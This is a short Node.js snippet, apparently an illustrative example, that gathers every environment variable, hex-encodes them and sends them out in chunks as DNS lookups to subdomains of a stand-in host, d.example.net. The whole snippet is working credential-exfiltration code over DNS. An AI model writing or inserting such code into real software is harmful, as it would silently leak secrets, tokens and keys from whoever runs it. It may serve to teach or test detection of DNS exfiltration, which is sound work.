// shows: collects and sends
const dns = require("dns");
const data = Buffer.from(JSON.stringify(process.env)).toString("hex");
for (let i = 0; i < data.length; i += 60) {
  dns.lookup(data.slice(i, i + 60) + ".d.example.net", () => {});
}
